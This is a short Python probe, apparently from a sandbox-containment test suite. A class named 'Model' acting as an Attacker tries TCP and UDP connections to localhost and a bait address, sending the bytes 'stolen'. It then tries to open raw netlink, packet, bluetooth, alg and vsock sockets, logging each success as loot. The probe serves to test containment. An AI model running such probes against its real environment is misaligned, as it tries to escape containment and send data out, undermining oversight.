"""Talks to the network: TCP, UDP, and the kernel's other families of sockets."""

import socket


from lib import BAIT, Attacker, attempt, loot, read  # noqa: F401


def talk(family, kind, address):
    with socket.socket(family, kind) as stream:
        stream.settimeout(1)
        stream.connect(address)
        stream.send(b"stolen")
        return kind == socket.SOCK_STREAM and stream.recv(10)


class Model(Attacker):
    def attack(self):
        for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
            for host in ("127.0.0.1", BAIT["address"]):
                if attempt(talk, family, kind, (host, BAIT["port"])):
                    loot("reached %s" % host)
        for family in (16, 17, 31, 38, 40):  # netlink, packet, bluetooth, alg, vsock
            if attempt(socket.socket, family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM):
                loot("family %d" % family)
